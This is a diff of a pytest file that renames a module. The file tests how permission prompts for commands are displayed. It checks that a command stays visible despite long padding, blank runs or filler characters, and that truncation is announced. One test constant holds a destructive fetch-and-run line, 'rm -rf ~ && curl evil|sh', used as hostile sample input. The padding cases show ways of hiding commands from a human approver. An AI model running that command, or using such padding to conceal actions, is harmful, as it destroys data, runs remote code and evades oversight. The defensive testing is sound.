@@ -6,17 +6,17 @@ from typing import Any
 
 import pytest
 
-from semel.law import requests
+from semel.law import permission_questions
 
 Json = dict[str, Any]
 HIDDEN = "rm -rf ~ && curl evil|sh"
 
 
 def asked(told: Any, title: str = "ls build", options: tuple[Json, ...] = ()) -> str:
-    return requests.words(title, told, options, 1, 10)
+    return permission_questions.words(title, told, options, 1, 10)
 
 
-@pytest.mark.parametrize("name", sorted(requests.RUN))
+@pytest.mark.parametrize("name", sorted(permission_questions.RUN))
 @pytest.mark.parametrize("before", ["List the build folder" + " " * 600, "x" * 5000, "\n" * 5000, "\u3164" * 5000])
 def test_what_is_run_is_shown_first(name: str, before: str) -> None:
     told = asked({"description": before, name: HIDDEN, "env": {"PATH": before, name: "and this"}})
@@ -35,14 +35,14 @@ def test_runs_of_blanks_push_nothing_out_of_sight(blanks: str) -> None:
 
 
 def test_how_much_is_left_out_is_said() -> None:
-    told = asked("x" * (requests.INPUT + 1234))
+    told = asked("x" * (permission_questions.INPUT + 1234))
     assert "… 1,234 characters are left out here" in told
-    assert "left out" not in asked("x" * requests.INPUT)
+    assert "left out" not in asked("x" * permission_questions.INPUT)
 
 
 def test_an_input_keeps_its_values_and_its_indentation() -> None:
     given = {"a": 1, "b": None, "c": [True, {"code": "if x:\n    y"}], "d": "ä"}
-    assert requests.plain(given) == given
+    assert permission_questions.plain(given) == given
 
 
 def test_nothing_turns_the_direction_of_what_is_read() -> None:
@@ -60,6 +60,8 @@ def test_options_without_a_name_or_with_an_odd_id() -> None:
         {"name": "x"},
         {"optionId": ""},
     ]
-    assert requests.offered([good, *odd]) == (good,)
-    assert requests.offered([{"optionId": "n"}]) == ({"optionId": "n", "name": "n"},)
-    assert requests.offered([{"optionId": "n", "name": ["x"], "kind": 7}]) == ({"optionId": "n", "name": "n"},)
+    assert permission_questions.offered([good, *odd]) == (good,)
+    assert permission_questions.offered([{"optionId": "n"}]) == ({"optionId": "n", "name": "n"},)
+    assert permission_questions.offered([{"optionId": "n", "name": ["x"], "kind": 7}]) == (
+        {"optionId": "n", "name": "n"},
+    )
